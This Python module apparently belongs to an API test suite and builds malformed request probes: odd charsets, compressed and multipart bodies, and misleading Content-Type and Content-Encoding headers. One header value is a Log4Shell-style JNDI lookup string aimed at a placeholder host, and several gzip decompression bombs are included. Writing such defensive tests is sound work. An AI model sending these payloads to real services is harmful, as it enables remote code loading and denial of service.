"""Bodies in another encoding than JSON's, compressed, or under a Content-Type that lies."""

import gzip
import zlib
from collections.abc import Callable, Iterator

from support.probes.probe import (
    ACCEPTED,
    BINARY,
    CANARY,
    JSON,
    UNREADABLE,
    Genuine,
    Headers,
    Probe,
    posting,
)

_CHARSETS = ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be")
_CODE_PAGES = {
    "windows-1255": "שלום, הזמנה חדשה",
    "iso-8859-8": "שלום",
    "cp862": "שלום",
    "windows-1252": "coração \u2013 \u201cSão\u201d",
    "iso-8859-1": "coração",
    "shift_jis": "注文",
    "gb18030": "订单",
    "koi8-r": "заказ",
    "euc-kr": "주문",
}
# Content types of a genuine JSON body, none of which is to be believed.
_LIES = (
    *("application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"),
    *("multipart/form-data; boundary=x", "text/plain", "text/xml", "application/xml"),
    *("text/html; charset=windows-1255", "application/json; charset=utf-16"),
    *("application/json;charset=windows-1255", 'application/json; charset="utf-7"'),
    *("APPLICATION/JSON", "application/json; charset=", "application/vnd.api+json"),
    *("application/octet-stream", "application/gzip", "image/png", "x", "/", ";", ","),
    *("application/json, text/html", "application/json; boundary=" + "x" * 3_000),
    *(f"{CANARY}/{CANARY}", "${jndi:ldap://host.example/a}", "application/json\x1b[31m"),
    *("application/x-protobuf", "application/x-ndjson", "text/json", "*/*"),
)
# Put together by hand (RFC 7932, RFC 8878): {"id":1}, not compressed but wrapped.
_BROTLI = b'\x8b\x03\x80{"id":1}\x03'
_ZSTANDARD = b'\x28\xb5\x2f\xfd\x20\x08\x41\x00\x00{"id":1}'
_COMPRESSIONS: dict[str, Callable[[bytes], bytes]] = {
    "gzip": gzip.compress,
    "deflate": zlib.compress,
    "br": lambda _: _BROTLI,
    "zstd": lambda _: _ZSTANDARD,
}
_BOMBS = {
    "gzip of 10 MB": gzip.compress(b"[" * 10_000_000),
    "gzip of gzip": gzip.compress(gzip.compress(b"{}" * 1_000_000)),
    "gzip cut short": gzip.compress(b"{}" * 1_000)[:-9],
}
_MULTIPART_TYPE: Headers = (("Content-Type", "multipart/form-data; boundary=x"),)
_MULTIPART = b"--x\r\nContent-Disposition: form-data; name=%b\r\n\r\n%b\r\n--x--\r\n"


def encoding_probes() -> Iterator[Probe]:
    group = "character encoding"
    for charset in _CHARSETS:
        for headers in (BINARY, _json_in(charset)):
            name = f"{charset} as {headers[0][1]}"
            yield Probe(group, name, posting(_in_charset(charset), headers), UNREADABLE)
    for charset, text in _CODE_PAGES.items():
        for headers in (BINARY, _json_in(charset)):
            name = f"{charset} as {headers[0][1]}"
            yield Probe(group, name, posting(_with_text(text, charset), headers), UNREADABLE)
    for content_type in _LIES:
        headers = (("Content-Type", content_type),)
        make = posting(lambda g: g.body, headers)
        yield Probe("Content-Type that lies", content_type[:50], make, ACCEPTED)
    yield Probe("Content-Type that lies", "none", posting(lambda g: g.body, ()), ACCEPTED)
    for field in (b"file", b'"order"', b"order[id]", b'"body"; filename="a.json"'):
        make = posting(_multipart(field), _MULTIPART_TYPE)
        yield Probe("multipart body", field.decode(), make, UNREADABLE)
    yield from _compressed()


def _compressed() -> Iterator[Probe]:
    group = "compressed body"
    for name, compress in _COMPRESSIONS.items():
        for headers in (BINARY, JSON):
            title = f"{name} as {headers[0][1]}"
            make = posting(_made_by(compress), (*headers, ("Content-Encoding", name)))
            yield Probe(group, title, make, UNREADABLE)
    for name, bomb in _BOMBS.items():
        headers = (*BINARY, ("Content-Encoding", "gzip"))
        yield Probe(group, name, posting(bomb, headers), UNREADABLE)
    for name in ("gzip", "br", "identity", "gzip, gzip", "x" * 500, CANARY):
        headers = (*JSON, ("Content-Encoding", name))
        make = posting(lambda g: g.body, headers)
        yield Probe("Content-Encoding that lies", name[:50], make, ACCEPTED)


def _json_in(charset: str) -> Headers:
    return (("Content-Type", f"application/json; charset={charset}"),)


def _in_charset(charset: str) -> Callable[[Genuine], bytes]:
    return lambda g: g.body.decode().encode(charset)


def _with_text(text: str, charset: str) -> Callable[[Genuine], bytes]:
    """The body with a text in an encoding that is not UTF-8, as old programs write JSON."""
    return lambda g: g.body[:-1] + b',"probe":"' + text.encode(charset) + b'"}'


def _multipart(field: bytes) -> Callable[[Genuine], bytes]:
    return lambda g: _MULTIPART % (field, g.body)


def _made_by(compress: Callable[[bytes], bytes]) -> Callable[[Genuine], bytes]:
    return lambda g: compress(g.body)
